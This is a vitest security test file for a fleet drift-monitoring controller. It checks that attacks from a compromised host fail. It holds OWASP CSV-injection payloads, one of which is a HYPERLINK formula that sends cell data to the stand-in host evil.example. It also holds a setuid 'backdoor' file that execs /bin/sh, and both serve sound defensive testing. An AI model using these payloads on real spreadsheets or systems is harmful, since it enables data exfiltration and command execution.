/**
 * @module Issue 21, "a compromised host must not be able to steer the controller", through the real
 * app and store: each attack is performed and must fail, and the honest hosts beside it lose nothing.
 * A file name with a line terminator escapes no rule; a fleet-wide catch-all exemption is refused
 * however it is spelled; host-supplied names cannot become spreadsheet formulas in the CSV export; a
 * manifest with no items cannot be published; and the fleet exports stream the same bytes the
 * in-memory report renders.
 */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { buildDriftReport, csvCell, renderReport, type ReportScope } from '../../controller/drift-report.js';
import { openStore } from '../../controller/store/index.js';
import type { Store } from '../../controller/store/types.js';
import type { Sections } from '../../shared/schema/manifest.js';
import { pgStores, requirePostgres, SKIP_PG } from '../helpers/postgres.js';
import { bakeManifest, file, Harness, HOUR } from './harness.js';

await requirePostgres();
const pgOpen = pgStores('dw_steer');

const STORES: { name: string; open: () => Promise<Store>; skip: boolean }[] = [
  { name: 'sqlite', open: () => openStore('sqlite::memory:'), skip: false },
  { name: 'postgres', open: pgOpen, skip: SKIP_PG },
];

/** OWASP's CSV injection payloads, and the same after a separator a `;` locale splits cells at. */
const OWASP = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
];

/** Every piece a spreadsheet could split a CSV line into, by `,` (unquoted), `;`, tab or line break. */
function pieces(line: string): string[] {
  return line.split(/[,;\t\r\n]/);
}
const FORMULA = /^[ "]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/;

for (const { name, open, skip } of STORES) {
  // PostgreSQL is skipped only with DRIFTWARDEN_SKIP_PG=1, for machines without it (requirePostgres fails the run otherwise); SQLite never is.
  describe.skipIf(skip)(`issue 21 attacks on ${name}`, () => {
    let h: Harness;
    beforeEach(async () => {
      h = await Harness.start(await open());
    });
    afterEach(async () => {
      await h.close();
    });

    describe('a setuid file whose name holds a line terminator', () => {
      it.each([
        ['newline', '\n'],
        ['carriage return', '\r'],
        ['U+2028', '\u2028'],
      ])('"/usr/bin/sshd<%s>backdoor" taints the host; an honest host beside it stays clean', async (_label, c) => {
        const evil = await h.enroll('evil-1');
        const honest = await h.enroll('web-1');
        await evil.scan();
        await honest.scan();
        h.clock.advance(HOUR);
        const r = await evil.write(`/usr/bin/sshd${c}backdoor`, '#!/bin/sh\nexec /bin/sh\n', '4755').scan();
        expect(r.status, r.text).toBe(200);
        expect(r.body).toMatchObject({ status: 'accepted', state: 'tainted' });
        expect(await h.store.listHostDeviations('evil-1')).toEqual([
          expect.objectContaining({
            key: `/usr/bin/sshd${c}backdoor`,
            change: 'added',
            severity: 'critical',
            action: 'taint',
            decidedBy: 'rule:default/system-files',
          }),
        ]);
        expect((await honest.scan()).body.state).toBe('clean');
        expect((await h.host('web-1')).state).toBe('clean');
      });
    });

    describe('fleet-wide catch-all exemptions', () => {
      const exempt = (body: Record<string, unknown>) =>
        h.req('POST', '/api/v1/exemptions', {
          token: h.tokens.operator,
          body: { reason: 'INC-1', for: '1h', ...body },
        });

      it.each(['/*/**', '/**', '**', '/**/*', '**/*'])(
        '"%s" without a host or image is refused with 400 naming the pattern, and nothing is stored',
        async (keyPattern) => {
          for (const collector of [undefined, 'files']) {
            const r = await exempt({ keyPattern, ...(collector ? { collector } : {}) });
            expect(r.status).toBe(400);
            expect(r.body).toMatchObject({
              error: 'DW_ERR_VALIDATION',
              message: expect.stringContaining(
                `keyPattern: "${keyPattern}" is a catch-all (it matches every files key)`,
              ),
            });
          }
          expect(await h.store.listExemptions({})).toEqual([]);
          expect((await h.store.listAudit({ limit: 100 })).filter((a) => a.action === 'exemption.create')).toEqual([]);
        },
      );

      it('the same pattern scoped to one host is accepted, and a narrow fleet-wide one too', async () => {
        expect((await exempt({ keyPattern: '/*/**', hostId: 'web-1' })).status).toBe(201);
        expect((await exempt({ keyPattern: '/etc/nginx/**', collector: 'files' })).status).toBe(201);
        expect(await h.store.listExemptions({})).toHaveLength(2);
      });
    });

    describe('the CSV export', () => {
      it('no piece of any line can start a formula, for the OWASP payloads in host-supplied names', async () => {
        const evil = await h.enroll('evil-1');
        const honest = await h.enroll('web-1');
        await evil.scan();
        await honest.scan();
        for (const [i, p] of OWASP.entries())
          evil.write(`/home/alice/${i};${p}`, 'x').write(`/home/alice/n${i}\n${p}`, 'x');
        evil.write(`/home/alice/${OWASP[0]}`, 'x');
        await evil.scan();
        await honest.write('/home/bob/notes.txt', 'todo\n').scan();
        const r = await h.get('/api/v1/drift-report?scope=fleet&format=csv');
        expect(r.status).toBe(200);
        for (const line of r.text.split('\r\n'))
          for (const piece of pieces(line)) expect(piece, JSON.stringify(line)).not.toMatch(FORMULA);
        // Nothing is lost: every deviation is a row, and the honest host's row is as it was.
        const rows = (await h.store.listHostDeviations('evil-1')).length + 1;
        expect(r.text.split('\r\n')).toHaveLength(1 + rows + 1);
        expect(r.text).toContain(
          '\r\nweb-1,web-1.example.internal,ami-web-1,,drifted,files,/home/bob/notes.txt,added,medium,report,rule:default/home-directories,,',
        );
      });

      it('cells: a leading trigger and one after ; , tab or a line break get an apostrophe; other text is untouched', () => {
        for (const p of OWASP) expect(csvCell(p).replace(/^"/, '')).toMatch(/^'/);
        expect(csvCell('a;=HYPERLINK("x")')).toBe('"a;\'=HYPERLINK(""x"")"');
        expect(csvCell('a; -1')).toBe("a; '-1");
        expect(csvCell('a\n@SUM(1)')).toBe('"a\n\'@SUM(1)"');
        expect(csvCell('a\t+1')).toBe("a\t'+1");
        expect(csvCell('/home/alice/=cmd|calc.csv')).toBe('/home/alice/=cmd|calc.csv');
        expect(csvCell('a;b')).toBe('a;b');
        expect(csvCell({ type: 'file', target: 'x;=1' })).toBe('"{""type"":""file"",""target"":""x;\'=1""}"');
      });
    });

    describe('a manifest with no items', () => {
      const empty: Sections = {
        packages: { items: [] },
        sysctl: { items: [] },
        cron: { items: [] },
        files: { items: [] },
      };

      it('is refused at publish, signed by a trusted key or not, and nothing is stored', async () => {
        const r = await h.publish(bakeManifest('ami-empty-1', h.key.privateKey, empty));
        expect(r.status).toBe(400);
        expect(r.body).toMatchObject({
          error: 'DW_ERR_MANIFEST_INVALID',
          message: expect.stringMatching(
            /^manifest of ami-empty-1 has no items in any section \(packages, sysctl, cron, files\)/,
          ),
        });
        expect(await h.store.getManifest('ami-empty-1')).toBeNull();
        const app = await h.buildApp({ config: { allowUnsignedManifests: true } });
        try {
          const unsigned = await h.publish(bakeManifest('ami-empty-2', undefined, empty), { app });
          expect(unsigned.status).toBe(400);
        } finally {
          await app.close();
        }
        expect(await h.store.getManifest('ami-empty-2')).toBeNull();
      });

      it('one empty section is an image without, say, cron jobs: accepted', async () => {
        const r = await h.publish(
          bakeManifest('ami-nocron-1', h.key.privateKey, { ...empty, files: { items: [file('/etc/motd', 'hi\n')] } }),
        );
        expect(r.status, r.text).toBe(201);
      });
    });

    describe('fleet exports stream what the in-memory report renders', () => {
      async function fleet() {
        const sims = [];
        for (let i = 0; i < 7; i++) sims.push(await h.enroll(`web-${i}`));
        for (const s of sims) await s.scan();
        h.clock.advance(HOUR);
        for (const [i, s] of sims.entries()) {
          if (i < 5) s.upgrade('openssl', '3.0.13-1');
          if (i % 2 === 0) s.write(`/home/u${i}/notes;=1`, 'x');
          if (i === 6) continue;
          await s.scan();
        }
      }

      it.each(['json', 'csv', 'jsonl'] as const)('%s: the same bytes, page by page', async (format) => {
        await fleet();
        for (const scope of [
          { kind: 'fleet' },
          { kind: 'image', id: 'ami-web-1' },
          { kind: 'host', id: 'web-0' },
        ] as ReportScope[]) {
          const q = scope.kind === 'fleet' ? 'scope=fleet' : `scope=${scope.kind}&id=${scope.id}`;
          const r = await h.get(`/api/v1/drift-report?${q}&format=${format}`);
          expect(r.status).toBe(200);
          const expected = renderReport((await buildDriftReport(h.store, scope, h.clock.now())).report, format);
          expect(r.text).toBe(expected.body);
          expect(r.headers['content-type']).toBe(expected.contentType);
        }
      });

      it('json with no deviations at all is the same document too', async () => {
        await h.enroll('web-1').then((s) => s.scan());
        const r = await h.get('/api/v1/drift-report?scope=fleet&format=json');
        expect(r.text).toBe(
          renderReport((await buildDriftReport(h.store, { kind: 'fleet' }, h.clock.now())).report, 'json').body,
        );
        expect(r.body.deviations).toEqual([]);
      });

      it('jsonl: one deviation per line, every one of them', async () => {
        await fleet();
        const lines = (await h.get('/api/v1/drift-report?scope=fleet&format=jsonl')).text
          .trimEnd()
          .split('\n')
          .map((l) => JSON.parse(l) as { hostId: string; key: string });
        expect(lines).toHaveLength((await h.store.listDeviations({ limit: 1000 })).length);
        expect(lines.filter((l) => l.key === 'openssl:amd64').map((l) => l.hostId)).toEqual([
          'web-0',
          'web-1',
          'web-2',
          'web-3',
          'web-4',
        ]);
      });

      it('html: pages of `limit` deviations linked by a next cursor, every deviation on exactly one page', async () => {
        await fleet();
        const all = (await h.store.listDeviations({ limit: 1000 })).map((d) => `${d.hostId} ${d.key}`);
        const seen: string[] = [];
        let url: string | null = '/api/v1/drift-report?scope=fleet&format=html&limit=2';
        let pages = 0;
        while (url) {
          const r = await h.get(url);
          expect(r.status, r.text).toBe(200);
          pages++;
          const rows = [
            ...r.text.matchAll(
              /<tr><td>(web-\d)\.example\.internal<\/td><td>[a-z-]+<\/td><td>[a-z]+<\/td><td>[a-z]+<\/td><td>([^<]*)<\/td>/g,
            ),
          ].map((m) => `${m[1]} ${m[2]!.replaceAll('&lt;', '<').replaceAll('&#39;', "'")}`);
          expect(rows.length).toBeLessThanOrEqual(2);
          seen.push(...rows);
          const next = /<a href="(\?[^"]+)">Next page of deviations<\/a>/.exec(r.text);
          url = next ? `/api/v1/drift-report${next[1]!.replaceAll('&amp;', '&')}` : null;
        }
        expect(seen).toEqual(all);
        expect(pages).toBe(Math.ceil(all.length / 2));
      });

      it('refuses a bad page cursor, and paging parameters on a streamed export, with 400', async () => {
        expect((await h.get('/api/v1/drift-report?scope=fleet&format=html&after=bm9wZQ')).status).toBe(400);
        const r = await h.get('/api/v1/drift-report?scope=fleet&format=csv&limit=10');
        expect(r.status).toBe(400);
        expect(r.body.message).toMatch(/after and limit page the HTML report/);
        expect((await h.get('/api/v1/drift-report?scope=host&id=nope&format=csv')).status).toBe(404);
      });
    });
  });
}
